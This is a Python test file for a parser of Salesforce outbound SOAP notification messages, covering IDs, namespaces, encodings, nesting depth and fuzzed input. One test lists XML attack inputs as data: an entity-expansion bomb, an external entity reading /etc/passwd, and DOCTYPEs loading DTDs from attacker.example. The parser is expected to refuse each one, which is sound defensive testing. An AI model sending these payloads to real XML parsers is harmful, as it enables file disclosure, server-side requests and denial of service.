"""Outbound messages: every notification is judged alone, and no XML does anything but say what it says."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.salesforce_messages import ORGANIZATION, message, notification, opportunity_id
from tieout.arriving.delivery import MalformedItem, Split
from tieout.errors import MalformedError
from tieout.systems.salesforce.outbound_message import read_message, split_message


def split_of(*notifications: str) -> Split:
    """What a message with these notifications makes."""
    return split_message(message(*notifications), "salesforce-emea")


def reason_of(body: bytes) -> str:
    """Why nothing can be made of a body."""
    with pytest.raises(MalformedError) as caught:
        split_message(body, "c")
    return caught.value.reason


def test_a_notification_is_a_notice_about_its_record() -> None:
    """Named by the organisation and the notification, so that the same one sent again is known."""
    [notice] = split_of(notification(7)).notices
    assert notice.key == ("salesforce-emea", "opportunity", opportunity_id(7))
    assert notice.notice_id == f"{ORGANIZATION}/04l3k0000000000007"
    assert notice.kind == "Opportunity/outboundMessage"
    assert notice.occurred_at == datetime(2026, 3, 2, 9, tzinfo=UTC)
    assert notice.deleted is False


def test_ids_of_15_characters_name_the_same_record() -> None:
    """Some messages are configured with the short form."""
    [notice] = split_of(notification(record_id=opportunity_id(1)[:15])).notices
    assert notice.key.record_id == opportunity_id(1)


@pytest.mark.parametrize("stated", ["", "yesterday", "2026-03-02T09:00:00"])
def test_a_notification_without_a_moment_is_a_notice_all_the_same(stated: str) -> None:
    """When it changed is told only where the message is set up to tell it."""
    [notice] = split_of(notification(fields={"SystemModstamp": stated})).notices
    assert notice.occurred_at is None


@pytest.mark.parametrize(
    ("flawed", "reason"),
    [
        (notification(2).replace("<Id>04l3k0000000000002</Id>", ""), "notification_id_missing"),
        (notification(2).replace("04l3k0000000000002", ""), "notification_id_malformed"),
        (notification(2).replace("04l3k0000000000002", "04l#"), "notification_id_malformed"),
        (notification(2).replace("<Id>", "<Id>04l3k0000000000001</Id><Id>"), "notification_id_ambiguous"),
        ("<Notification><Id>04l3k0000000000002</Id></Notification>", "object_missing"),
        ('<Notification><Id>04l3k0000000000002</Id><sObject xsi:nil="true"/></Notification>', "object_name_missing"),
        (notification(2, type_name="sf:"), "object_name_missing"),
        (notification(2, type_name="Opportunity"), "object_name_missing"),
        (notification(2, type_name="xsi:Opportunity"), "object_name_missing"),
        (notification(2, type_name="sf:Opportunity x"), "object_name_malformed"),
        (notification(2).replace("urn:sobject.enterprise", "urn:sobject.partner"), "object_name_missing"),
        (re.sub("<sf:Id>.*</sf:Id>", "", notification(2)), "record_id_missing"),
        (notification(2, record_id="0063k"), "record_id_malformed"),
        (notification(2, record_id="0063k000000Abc2AAA"), "record_id_malformed"),
        (notification(2).replace("<sf:Id>", f"<sf:Id>{opportunity_id(9)}</sf:Id><sf:Id>"), "record_id_ambiguous"),
        ("<Notification/>", "notification_id_missing"),
    ],
)
@pytest.mark.parametrize("position", [0, 1, 2])
def test_a_notification_that_says_nothing_costs_no_neighbour(flawed: str, reason: str, position: int) -> None:
    """It is a malformed item, wherever it stands."""
    notifications = [notification(1), notification(3)]
    notifications.insert(position, flawed)
    split = split_of(*notifications)
    assert [notice.key.record_id for notice in split.notices] == [opportunity_id(1), opportunity_id(3)]
    assert split.malformed == ((position, reason),)


def test_a_record_that_was_deleted_before_its_message_is_told_of() -> None:
    """Salesforce then sends the notification without data; it names no record, so it can only be kept."""
    bare = '<sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com"/>'
    split = split_of(f"<Notification><Id>04l3k0000000000002</Id>{bare}</Notification>")
    assert (split.notices, split.malformed) == ((), (MalformedItem(0, "record_id_missing"),))


@pytest.mark.parametrize(("count", "reason"), [(100, None), (101, "too_many_notifications")])
def test_a_message_has_a_hundred_notifications_at_most(count: int, reason: str | None) -> None:
    """As the vendor's schema says."""
    body = message(*(notification(number) for number in range(1, count + 1)))
    if reason is None:
        assert len(split_message(body, "c").notices) == count
    else:
        assert reason_of(body) == reason


SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
OUTBOUND = "http://soap.sforce.com/2005/09/outbound"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (SOAP, "http://www.w3.org/2003/05/soap-envelope"),
        (SOAP, ""),
        (OUTBOUND, OUTBOUND + "/"),
        (OUTBOUND, ""),
        ("soapenv:Envelope", "soapenv:envelope"),
        ("soapenv:Body", "soapenv:Header"),
        ("notifications", "Notifications"),
        ("<notifications", "<a><notifications"),
    ],
)
def test_names_stand_in_exactly_their_namespaces(old: str, new: str) -> None:
    """Anything that looks alike is not Salesforce's."""
    text = message(notification()).decode().replace(old, new)
    text = text.replace("</notifications>", "</notifications></a>") if new.startswith("<a>") else text
    if '=""' in text:
        assert reason_of(text.encode()) in {"xml_invalid", "notifications_missing"}
    else:
        assert reason_of(text.encode()) == "notifications_missing"


def test_prefixes_are_names_of_no_meaning() -> None:
    """What counts is the namespace a prefix stands for where it is used."""
    text = message(notification()).decode().replace("soapenv:", "s:").replace("xmlns:soapenv", "xmlns:s")
    text = text.replace("sf:", "o:").replace("xmlns:sf", "xmlns:o")
    assert split_message(text.encode(), "c") == split_message(message(notification()), "c")


def test_a_prefix_means_what_it_means_where_it_stands() -> None:
    """Another object before it may have given it another meaning."""
    foreign = notification(1).replace("urn:sobject.enterprise.soap.sforce.com", "urn:of.somebody")
    split = split_of(foreign, notification(2), foreign)
    assert [notice.key.record_id for notice in split.notices] == [opportunity_id(2)]


def test_a_prefix_that_meant_something_else_for_a_while_means_the_old_again() -> None:
    """A field may give it a meaning of its own, which ends with the field."""
    declared = ' xmlns:sf="urn:sobject.enterprise.soap.sforce.com"'
    inner = (
        notification(1)
        .replace(declared, "")
        .replace("</sf:SystemModstamp>", '</sf:SystemModstamp><sf:X xmlns:sf="urn:x"/>')
    )
    text = (
        message(inner, notification(2).replace(declared, ""))
        .decode()
        .replace("<notifications", f"<notifications{declared}")
    )
    assert [each.key.record_id for each in split_message(text.encode(), "c").notices] == [
        opportunity_id(1),
        opportunity_id(2),
    ]


BOMB = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10 if number else "lol"}">' for number in range(9))


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE a>",
        f"<!DOCTYPE a [{BOMB}]>",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "https://attacker.example/a.dtd">',
        '<!DOCTYPE a PUBLIC "-//x//y" "https://attacker.example/a.dtd">',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]>',
        '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>',
    ],
)
@pytest.mark.parametrize("used", ["&l8;", "&x;", ""])
def test_a_document_may_declare_nothing(doctype: str, used: str) -> None:
    """Neither entities that grow or are fetched, nor anything else a DOCTYPE can hold."""
    body = message(notification()).decode().replace("?>", f"?>{doctype}").replace("<ActionId>", f"<ActionId>{used}")
    assert reason_of(body.encode()) == "xml_declares_entities"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" ",
        b"\x00",
        b"{}",
        b'{"organizationId":"00D3k00000Qz7Ap","events":[]}',
        b"<",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"text <a/>",
        b"<a>&nothing;</a>",
        b"<a>\x01</a>",
        b"<a>\xff</a>",
        message(notification())[:-1],
        b"\n" + message(notification()),
        message(notification()).decode().encode("utf-16"),
        message(notification()).replace(b"<ActionId>", b"<ActionId>\xe9"),
        message(notification()).replace(b"xmlns:soapenv", b"xmlns:other"),
    ],
)
def test_what_is_no_xml_of_utf8_is_refused(body: bytes) -> None:
    """Cut, of another encoding, of another format."""
    assert reason_of(body) == "xml_invalid"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "cp037", "base64", "unicode_escape", "no-such", "iso-8859-1"])
def test_a_document_does_not_choose_its_encoding(encoding: str) -> None:
    """It is UTF-8, whatever it says of itself."""
    body = message(notification()).replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode())
    assert split_message(body, "c") == split_message(message(notification()), "c")


def test_a_byte_order_mark_is_sound_xml() -> None:
    """XML allows it, unlike JSON."""
    assert split_message(b"\xef\xbb\xbf" + message(notification()), "c").notices


@pytest.mark.parametrize("depth", [40, 100_000])
def test_a_document_nests_as_deep_as_a_field_does(depth: int) -> None:
    """Nothing is built of what is deeper."""
    deep = "<a>" * depth + "</a>" * depth
    assert reason_of(message(notification(), deep)) == "xml_too_deep"


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (f"<OrganizationId>{ORGANIZATION}</OrganizationId>", "", "organization_id_missing"),
        (ORGANIZATION, "", "organization_id_missing"),
        (ORGANIZATION, "00D", "organization_id_malformed"),
        ("<ActionId>", f"<OrganizationId>{ORGANIZATION}</OrganizationId><ActionId>", "organization_id_ambiguous"),
        ("<Notification>", "<Other>", "notifications_missing"),
    ],
)
def test_a_message_names_its_one_organisation_and_something_that_happened(old: str, new: str, reason: str) -> None:
    """Else nothing of it can be trusted to be ours."""
    text = (
        message(notification())
        .decode()
        .replace(old, new)
        .replace("</Notification>", "</Other>" if "Other" in new else "</Notification>")
    )
    assert reason_of(text.encode()) == reason


def test_fields_that_nest_are_passed_over() -> None:
    """An address has fields of its own, and none of them is the record's id."""
    address = "</sf:SystemModstamp><sf:BillingAddress><sf:Id>0013k00000AbCdE</sf:Id></sf:BillingAddress><sf:X>"
    text = notification(1).replace("</sf:SystemModstamp>", address + "</sf:X>")
    assert [each.key.record_id for each in split_of(text).notices] == [opportunity_id(1)]


@given(st.binary(max_size=200))
def test_no_bytes_raise_anything_else(body: bytes) -> None:
    """Bytes are a message, or malformed."""
    try:
        read_message(body)
    except MalformedError:
        return


@given(st.data())
def test_no_change_of_a_message_raises_anything_else(data: st.DataObject) -> None:
    """A message with bytes taken out, put in or doubled is a message, or malformed."""
    whole = message(notification(1), notification(2))
    start = data.draw(st.integers(0, len(whole)))
    end = data.draw(st.integers(start, len(whole)))
    try:
        split_message(whole[:start] + data.draw(st.binary(max_size=9)) + whole[end:], "c")
    except MalformedError:
        return
